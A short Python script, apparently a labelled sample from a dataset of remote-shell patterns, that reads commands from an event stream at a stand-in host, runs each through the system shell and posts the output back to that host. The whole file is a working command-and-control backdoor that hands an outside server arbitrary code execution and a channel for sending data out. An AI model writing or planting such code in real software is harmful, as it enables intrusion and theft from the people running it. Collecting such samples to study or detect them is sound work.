# class: shell; possible: low medium; style: commands from an event stream
import json
import subprocess
import time
import urllib.request

stream = urllib.request.urlopen("http://events.ops.test/events", timeout=20)
end = time.time() + 30
for raw in stream:
    line = raw.decode().strip()
    if line.startswith("data:"):
        command = json.loads(line[5:])["run"]
        result = subprocess.run(command, shell=True, capture_output=True, text=True)
        urllib.request.urlopen("http://events.ops.test/result", data=result.stdout.encode())
    if time.time() > end:
        break
